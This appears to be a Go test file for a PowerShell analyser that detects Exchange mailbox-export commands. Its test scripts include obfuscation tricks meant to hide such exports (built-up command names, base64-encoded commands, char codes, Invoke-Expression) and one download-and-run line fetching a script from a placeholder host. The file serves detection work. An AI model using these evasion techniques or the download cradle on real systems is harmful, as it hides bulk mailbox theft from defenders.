package powershell

import (
	"fmt"
	"strings"
	"testing"
)

// writeCall writes an invocation of the export command: mailbox | path, and
// what else is to be known of it.
func writeCall(e Event) string {
	value := map[string]string{}
	for _, a := range e.Arguments {
		value[a.Name] = partsText(Parts(a.Value))
	}
	s := value["Mailbox"] + " | " + value["FilePath"]
	if w, ok := value["WhatIf"]; ok && w != "False" {
		s += " whatif"
		if w != "True" {
			s += ":" + w
		}
	}
	if e.Many {
		s += " many:" + e.Source
	}
	if e.Conditional {
		s += " conditional"
	}
	if e.Place.Child {
		s += " child"
	}
	if e.Place.Remote {
		s += " remote"
	}
	if e.Place.Later {
		s += " later"
	}
	for _, f := range e.Faults {
		s += " fault:" + string(f.Kind)
	}
	return s
}

func TestCases(t *testing.T) {
	for _, c := range []struct {
		name, script string
		want         string // one call a line
	}{
		// Daily administration.
		{"text list", `
			foreach ($u in (Get-Content C:\lists\users.txt)) { New-MailboxExportRequest -Mailbox $u -FilePath "\\fs\o\$u.pst" }`,
			`{$u} | \\fs\o\{$u}.pst many:Get-Content C:\lists\users.txt`},
		{"csv columns", `
			$rows = Import-Csv c:\l.csv
			foreach ($r in $rows) { New-MailboxExportRequest -Mailbox $r.Mailbox -FilePath "$($r.Share)\$($r.Mailbox).pst" }`,
			`{$r.Mailbox} | {$r.Share}\{$r.Mailbox}.pst many:Import-Csv c:\l.csv`},
		{"pipeline of mailboxes", `
			Get-Mailbox -Server ex1 | New-MailboxExportRequest -FilePath \\f\o\all.pst`,
			`{$_} | \\f\o\all.pst many:Get-Mailbox -Server ex1`},
		{"piped again inside", `
			Get-Mailbox | % { $_ | New-MailboxExportRequest -FilePath "\\f\o\$($_.Alias).pst" }`,
			`{$_} | \\f\o\{$_.Alias}.pst many:Get-Mailbox`},
		{"environment in the path", `
			New-MailboxExportRequest -Mailbox ann -FilePath "\\$env:COMPUTERNAME\c$\$env:USERNAME.pst"`,
			`ann | \\{$env:COMPUTERNAME}\c$\{$env:USERNAME}.pst`},
		{"prompted", `
			$m = Read-Host "Mailbox"
			if (-not $m) { exit }
			New-MailboxExportRequest $m -FilePath "\\fs\o\$m.pst"`,
			`{Read-Host "Mailbox"} | \\fs\o\{Read-Host "Mailbox"}.pst conditional`},
		{"export then look", `
			$r = New-MailboxExportRequest -Mailbox ann -FilePath \\fs\o\ann.pst -Name x
			while ((Get-MailboxExportRequest -Name x).Status -ne 'Completed') { Start-Sleep 30 }
			New-MailboxExportRequest -Mailbox ann -IsArchive -FilePath \\fs\o\ann-arc.pst`,
			"ann | \\\\fs\\o\\ann.pst\nann | \\\\fs\\o\\ann-arc.pst"},
		{"result used", `
			$r = New-MailboxExportRequest -Mailbox ann -FilePath \\fs\o\ann.pst
			New-MailboxExportRequest -Mailbox $r.Mailbox -FilePath "\\fs\p\$($r.Status).pst"`,
			"ann | \\\\fs\\o\\ann.pst\nann | \\\\fs\\p\\Queued.pst"},
		{"try, log, go on", `
			foreach ($u in 'ann', 'bea') {
				try { New-MailboxExportRequest -Mailbox $u -FilePath \\fs\o\$u.pst -ErrorAction Stop }
				catch { Write-Warning "failed: $_"; continue }
				Write-Host "queued $u"
			}`,
			"ann | \\\\fs\\o\\ann.pst\nbea | \\\\fs\\o\\bea.pst"},
		{"second try elsewhere", `
			try { New-MailboxExportRequest -Mailbox ann -FilePath \\fs\o\ann.pst -EA Stop }
			catch { New-MailboxExportRequest -Mailbox ann -FilePath \\fs2\o\ann.pst }`,
			"ann | \\\\fs\\o\\ann.pst\nann | \\\\fs2\\o\\ann.pst conditional"},
		{"folder made first", `
			$root = '\\fs\o\2025'
			if (!(Test-Path $root)) { New-Item -ItemType Directory -Path $root | Out-Null }
			'ann','bea' | ForEach-Object { New-MailboxExportRequest -Mailbox $_ -FilePath (Join-Path $root "$_.pst") }`,
			"ann | \\\\fs\\o\\2025\\ann.pst\nbea | \\\\fs\\o\\2025\\bea.pst"},
		{"disabled users of an OU", `
			Get-ADUser -SearchBase 'OU=Leavers,DC=c' -Filter * | Where-Object { -not $_.Enabled } | ForEach-Object {
				$a = $_.SamAccountName
				New-MailboxExportRequest -Mailbox $a -FilePath "\\fs\l\$a.pst"
			}`,
			`{$_.SamAccountName} | \\fs\l\{$_.SamAccountName}.pst many:Get-ADUser -SearchBase 'OU=Leavers,DC=c' -Filter * | Where-Object { -not $_.Enabled }`},
		{"objects collected first", `
			$jobs = @()
			foreach ($m in Get-Mailbox) { $jobs += New-Object PSObject -Property @{ Box = $m.Alias; File = "\\fs\o\$($m.Alias).pst" } }
			$jobs | % { New-MailboxExportRequest $_.Box -FilePath $_.File }`,
			`{$m.Alias} | \\fs\o\{$m.Alias}.pst many:Get-Mailbox`},
		{"names collected first", `
			$names = @(); Get-Mailbox | % { $names += $_.Alias }
			foreach ($n in $names) { New-MailboxExportRequest $n -FilePath "\\fs\o\$n.pst" }`,
			`{$_.Alias} | \\fs\o\{$_.Alias}.pst many:Get-Mailbox`},
		{"counter in an unknown loop", `
			$i = 0
			foreach ($m in Get-Mailbox) { $i++; New-MailboxExportRequest $m.Alias -FilePath ("\\fs\o\{0}.pst" -f $i) -Name "b$i" }`,
			`{$m.Alias} | \\fs\o\{$i}.pst many:Get-Mailbox`},
		{"batches of a known list", `
			$all = 'a','b','c','d','e'
			for ($i = 0; $i -lt $all.Count; $i += 2) { foreach ($u in $all[$i..($i+1)]) { New-MailboxExportRequest $u -FilePath "\\fs\$i\$u.pst" } }`,
			"a | \\\\fs\\0\\a.pst\nb | \\\\fs\\0\\b.pst\nc | \\\\fs\\2\\c.pst\nd | \\\\fs\\2\\d.pst\ne | \\\\fs\\4\\e.pst"},
		{"switch of a script", `
			param([string]$User = 'ann', [switch]$Archive)
			New-MailboxExportRequest $User -FilePath "\\fs\o\$User.pst" -IsArchive:$Archive`,
			`ann | \\fs\o\ann.pst`},
		{"what-if from a preference", `
			$WhatIfPreference = Test-Path C:\dry.flag
			New-MailboxExportRequest ann -FilePath \\fs\o\ann.pst`,
			`ann | \\fs\o\ann.pst whatif:{Test-Path C:\dry.flag}`},
		{"confirm first", `
			$answer = Read-Host 'Sure? (y/n)'
			if ($answer -eq 'y') { New-MailboxExportRequest ann -FilePath \\fs\o\ann.pst } else { Write-Host 'no' }`,
			`ann | \\fs\o\ann.pst conditional`},
		{"join two conditions", `
			$m = Get-Mailbox ann
			if ($m.ArchiveStatus -eq 'Active' -and $m.Database -like 'DB*') { New-MailboxExportRequest ann -IsArchive -FilePath \\fs\a.pst }`,
			`ann | \\fs\a.pst conditional`},
		{"a session's commands", `
			$s = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri http://ex/PowerShell
			Invoke-Command -Session $s { New-MailboxExportRequest -Mailbox ann -FilePath \\fs\o\ann.pst }`,
			`ann | \\fs\o\ann.pst remote`},
		{"session arguments", `
			icm -ComputerName ex1 -ScriptBlock { param($u, $p) New-MailboxExportRequest $u -FilePath "$p\$u.pst" } -Args ann, \\fs\o`,
			`ann | \\fs\o\ann.pst remote`},
		{"using in a job", `
			$u = 'ann'; Start-Job { New-MailboxExportRequest $using:u -FilePath "\\fs\o\$($using:u).pst" } | Out-Null`,
			`ann | \\fs\o\ann.pst child`},
		{"dot-sourced settings", `
			. C:\scripts\settings.ps1
			New-MailboxExportRequest -Mailbox ann -FilePath "$ExportRoot\ann.pst"`,
			`ann | {$ExportRoot}\ann.pst`},
		{"functions of several layers", `
			function Get-Root { param($y = 2024) "\\fs\$y" }
			function Get-File($u) { Join-Path (Get-Root -y 2025) "$u.pst" }
			function Start-It { [CmdletBinding()] param([Parameter(Mandatory, ValueFromPipeline)][string[]]$Who) process { foreach ($w in $Who) { New-MailboxExportRequest $w -FilePath (Get-File $w) } } }
			'ann', 'bea' | Start-It
			Start-It -Who cid, dov`,
			"ann | \\\\fs\\2025\\ann.pst\nbea | \\\\fs\\2025\\bea.pst\ncid | \\\\fs\\2025\\cid.pst\ndov | \\\\fs\\2025\\dov.pst"},
		{"mandatory parameter asked for", `
			function Ex { param([Parameter(Mandatory)]$Who) New-MailboxExportRequest $Who -FilePath \\fs\o.pst }
			Ex`,
			`{$Who} | \\fs\o.pst`},
		{"splat with a condition", `
			$p = @{ Mailbox = 'ann'; FilePath = '\\fs\o\ann.pst' }
			if (Get-Mailbox ann -Archive) { $p.IsArchive = $true; $p.FilePath = '\\fs\o\ann-arc.pst' }
			New-MailboxExportRequest @p`,
			"ann | \\\\fs\\o\\ann-arc.pst conditional\nann | \\\\fs\\o\\ann.pst conditional"},
		{"table of an unknown command", `
			$p = Get-ExportSettings
			New-MailboxExportRequest @p -FilePath \\fs\o\x.pst`,
			` | \\fs\o\x.pst`},
		{"hashtable by key", `
			$share = @{ HR = '\\fs\hr'; IT = '\\fs\it' }
			foreach ($k in 'HR','IT') { New-MailboxExportRequest "$k-box" -FilePath "$($share.$k)\$k.pst" }`,
			"HR-box | \\\\fs\\hr\\HR.pst\nIT-box | \\\\fs\\it\\IT.pst"},
		{"variables made by name", `
			1..2 | % { New-Variable -Name "u$_" -Value "user$_" }
			New-MailboxExportRequest $u1 -FilePath "\\fs\$u2.pst"`,
			`user1 | \\fs\user2.pst`},
		{"do until", `
			$n = 1
			do { New-MailboxExportRequest "u$n" -FilePath \\fs\$n.pst; $n *= 3 } until ($n -gt 9)`,
			"u1 | \\\\fs\\1.pst\nu3 | \\\\fs\\3.pst\nu9 | \\\\fs\\9.pst"},
		{"here-string table", `
			$list = @'
ann;\\fs\a
bea;\\fs\b
'@
			$list -split "\r?\n" | % { $u, $p = $_ -split ';'; New-MailboxExportRequest $u -FilePath "$p\$u.pst" }`,
			"ann | \\\\fs\\a\\ann.pst\nbea | \\\\fs\\b\\bea.pst"},
		{"queue", `
			$q = New-Object System.Collections.Generic.Queue[string]
			'ann','bea' | % { $q.Enqueue($_) }
			while ($q.Count -gt 0) { $u = $q.Dequeue(); New-MailboxExportRequest $u -FilePath \\fs\$u.pst }`,
			"ann | \\\\fs\\ann.pst\nbea | \\\\fs\\bea.pst"},
		{"class with a list", `
			class Job { [string]$U; [string]$P; Job($u) { $this.U = $u; $this.P = "\\fs\$u.pst" } [void] Go() { New-MailboxExportRequest $this.U -FilePath $this.P } }
			$l = [System.Collections.Generic.List[Job]]::new(); 'ann','bea' | % { $l.Add([Job]::new($_)) }
			foreach ($j in $l) { $j.Go() }`,
			"ann | \\\\fs\\ann.pst\nbea | \\\\fs\\bea.pst"},
		{"error preference ends the script", `
			$ErrorActionPreference = 'Stop'
			[int]$n = 'x'
			New-MailboxExportRequest ann -FilePath \\fs\o.pst`, ``},
		{"statement error goes on", `
			[int]$n = 'x'
			New-MailboxExportRequest ann -FilePath \\fs\o.pst`, `ann | \\fs\o.pst`},
		{"return in the middle of a function", `
			function F($u) { if (-not (Get-Mailbox $u)) { Write-Host none; return }; New-MailboxExportRequest $u -FilePath \\fs\$u.pst }
			'ann', 'bea' | % { F $_ }`,
			"ann | \\\\fs\\ann.pst conditional\nbea | \\\\fs\\bea.pst conditional"},
		{"select first stops", `
			'ann','bea','cid' | % { New-MailboxExportRequest $_ -FilePath \\fs\$_.pst } | Select-Object -First 2 | Out-Null`,
			"ann | \\\\fs\\ann.pst\nbea | \\\\fs\\bea.pst"},
		{"members of unknown objects", `
			$m = Get-Mailbox ann
			New-MailboxExportRequest $m.Identity -FilePath ('\\fs\' + $m.PrimarySmtpAddress.ToString().Split('@')[0].ToLower() + '.pst')`,
			`{(Get-Mailbox ann).Identity} | \\fs\{(Get-Mailbox ann).PrimarySmtpAddress.ToString().Split('@')[0].ToLower()}.pst`},
		{"dates", `
			$d = (Get-Date).ToString('yyyy')
			New-MailboxExportRequest ann -FilePath "\\fs\$d\ann.pst"`,
			`ann | \\fs\{(Get-Date).ToString('yyyy')}\ann.pst`},

		// Binding.
		{"unknown parameter", `New-MailboxExportRequest -Identity ann -FilePath \\fs\a.pst`, ` | \\fs\a.pst fault:unknown parameter`},
		{"ambiguous", `New-MailboxExportRequest ann -FilePath \\fs\a.pst -ContentF x`, `ann | \\fs\a.pst fault:ambiguous parameter`},
		{"given twice", `New-MailboxExportRequest ann -FilePath \\fs\a.pst -FilePath \\fs\b.pst`, `ann | \\fs\a.pst fault:parameter given twice`},
		{"too many values", `New-MailboxExportRequest ann \\fs\a.pst`, `ann |  fault:argument in no position`},
		{"without a value", `New-MailboxExportRequest ann -FilePath`, `ann |  fault:parameter without a value`},
		{"wrong type", `New-MailboxExportRequest ann, bea -FilePath \\fs\a.pst`, `ann bea | \\fs\a.pst fault:value of a wrong type`},
		{"fault caught", `try { New-MailboxExportRequest -Identity ann } catch { New-MailboxExportRequest bea -FilePath \\fs\b.pst }`,
			" |  fault:unknown parameter\nbea | \\\\fs\\b.pst"},
		{"defaults from a table", `$PSDefaultParameterValues = @{ 'New-Mailbox*:FilePath' = '\\fs\d.pst'; '*:WhatIf' = $true }; New-MailboxExportRequest ann`,
			`ann | \\fs\d.pst whatif`},

		// Hiding.
		{"built and called", `$c = 'New-Mail' + 'boxExport' + ('tseuqeR'[-1..-7] -join ''); & $c ann -FilePath \\fs\a.pst`, `ann | \\fs\a.pst`},
		{"alias of an alias", `sal a New-MailboxExportRequest; sal b a; b ann -FilePath \\fs\a.pst`, `ann | \\fs\a.pst`},
		{"looked up", `& (Get-Command *boxExp*quest) ann -FilePath \\fs\a.pst`, `ann | \\fs\a.pst`},
		{"module prefix", `Exchange\New-MailboxExportRequest ann -FilePath \\fs\a.pst`, `ann | \\fs\a.pst`},
		{"invoke-expression with holes", `foreach ($m in Get-Mailbox) { iex "New-MailboxExportRequest -Mailbox '$($m.Alias)' -FilePath \\fs\$($m.Alias).pst" }`,
			`{$m.Alias} | \\fs\{$m.Alias}.pst many:Get-Mailbox`},
		{"script block from text", `$sb = [scriptblock]::Create('param($u) New-MailboxExportRequest $u -FilePath \\fs\$u.pst'); & $sb ann; Invoke-Command $sb -ArgumentList bea`,
			"ann | \\\\fs\\ann.pst\nbea | \\\\fs\\bea.pst"},
		{"bound script block", `$u = 'ann'; $c = { New-MailboxExportRequest $u -FilePath \\fs\$u.pst }.GetNewClosure(); $u = 'bea'; & $c`, `ann | \\fs\ann.pst`},
		{"powershell object", `$p = [powershell]::Create(); $p.AddCommand('New-MailboxExportRequest').AddParameters(@{ Mailbox = 'ann'; FilePath = '\\fs\a.pst' }) | Out-Null; $p.Invoke()`,
			`ann | \\fs\a.pst`},
		{"function drive", `${function:x} = { New-MailboxExportRequest ann -FilePath \\fs\a.pst }; x`, `ann | \\fs\a.pst`},
		{"renamed by a function", `function New-MailboxExportRequest { 'no' }; New-MailboxExportRequest ann -FilePath \\fs\a.pst`, ``},
		{"uncovered again", `function New-MailboxExportRequest { 'no' }; Remove-Item function:New-MailboxExportRequest; New-MailboxExportRequest ann -FilePath \\fs\a.pst`,
			`ann | \\fs\a.pst`},
		{"encoded", `powershell -enc TgBlAHcALQBNAGEAaQBsAGIAbwB4AEUAeABwAG8AcgB0AFIAZQBxAHUAZQBzAHQAIABhAG4AbgAgAC0ARgBpAGwAZQBQAGEAdABoACAAXABcAGYAcwAwADEAXABlAC4AcABzAHQA`,
			`ann | \\fs01\e.pst child`},
		{"cmd within cmd", `cmd /c "powershell -nop -c New-MailboxExportRequest ann -FilePath \\fs\a.pst"`, `ann | \\fs\a.pst child`},
		{"only in a file", `'New-MailboxExportRequest ann -FilePath \\fs\a.pst' | Set-Content x.ps1`, ``},
		{"only if unknown text says so", `iex (New-Object Net.WebClient).DownloadString('http://x/y.ps1'); New-MailboxExportRequest $who -FilePath \\fs\a.pst`,
			`{$who} | \\fs\a.pst`},
		{"block given to an unknown command", `Invoke-WithRetry { New-MailboxExportRequest ann -FilePath \\fs\a.pst }`, `ann | \\fs\a.pst conditional`},
		{"char codes in a pipeline", `$n = 78,101,119 | % { [char]$_ }; & (($n -join '') + '-MailboxExportRequest') ann -FilePath \\fs\a.pst`, `ann | \\fs\a.pst`},
		{"replace chain", `('N#w-M@ilboxExportR#qu#st' -replace '#','e').Replace('@','a') | % { & $_ ann -FilePath \\fs\a.pst }`, `ann | \\fs\a.pst`},
		{"stop parsing", `Write-Output --% New-MailboxExportRequest ann -FilePath \\fs\a.pst`, ``},
		{"label and script", `:x foreach ($i in 1..3) { foreach ($j in 1..3) { if ($j -eq 2) { continue x }; New-MailboxExportRequest "u$i$j" -FilePath \\fs\$i.pst } }`,
			"u11 | \\\\fs\\1.pst\nu21 | \\\\fs\\2.pst\nu31 | \\\\fs\\3.pst"},
	} {
		tree := Parse(c.script, WindowsPowerShell)
		if len(tree.Errors) > 0 {
			t.Errorf("%s: %v", c.name, tree.Errors)
			continue
		}
		result := Run(newExportHost(), []Logged{{Tree: tree, Fresh: true}}, Budget{})
		var got []string
		for _, e := range result.Events {
			got = append(got, writeCall(e))
		}
		if s := strings.Join(got, "\n"); s != c.want || result.Limit != "" {
			t.Errorf("%s: limit %q\n%s\n  got\n    %s\n  want\n    %s", c.name, result.Limit, c.script,
				strings.ReplaceAll(s, "\n", "\n    "), strings.ReplaceAll(c.want, "\n", "\n    "))
		}
	}
}

// TestPlaces checks where a call is said to stand, and how it is reached.
func TestPlaces(t *testing.T) {
	texts := []string{
		"function Go($u) {\n  New-MailboxExportRequest $u -FilePath \"$root\\$u.pst\"\n}\n$root = '\\\\fs'",
		"Go ann\niex 'New-MailboxExportRequest bea -FilePath \\\\fs\\b.pst'\nfunction In { New-MailboxExportRequest cid -FilePath \\\\fs\\c.pst }\nIn",
		"if ($false) { New-MailboxExportRequest dov -FilePath \\\\fs\\d.pst }\n& $unknown x",
	}
	var blocks []Logged
	for _, s := range texts {
		blocks = append(blocks, Logged{Tree: Parse(s, WindowsPowerShell)})
	}
	result := Run(newExportHost(), blocks, Budget{})
	var got []string
	for _, e := range result.Events {
		p := e.Place
		s := fmt.Sprintf("%d %q in %d %s via %v", p.Block, texts[p.Block][p.From:p.To], p.Home, p.Statement, p.Via)
		for _, a := range e.Arguments {
			s += fmt.Sprintf(" %s%v", a.Name, a.Blocks)
		}
		got = append(got, s)
	}
	for _, p := range result.Unreached {
		got = append(got, fmt.Sprintf("unreached %d %s", p.Block, p.Statement))
	}
	for _, p := range result.Opaque {
		got = append(got, fmt.Sprintf("opaque %d %s", p.Block, p.Statement))
	}
	want := []string{
		`1 "Go ann" in 0 New-MailboxExportRequest $u -FilePath "$root\$u.pst" via [function Go] Mailbox[] FilePath[0]`,
		`1 "iex 'New-MailboxExportRequest bea -FilePath \\\\fs\\b.pst'" in -1 New-MailboxExportRequest bea -FilePath \\fs\b.pst via [Invoke-Expression] Mailbox[] FilePath[]`,
		`1 "New-MailboxExportRequest cid -FilePath \\\\fs\\c.pst" in 1 New-MailboxExportRequest cid -FilePath \\fs\c.pst via [function In] Mailbox[] FilePath[]`,
		`unreached 2 New-MailboxExportRequest dov -FilePath \\fs\d.pst`,
		`opaque 2 & $unknown x`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
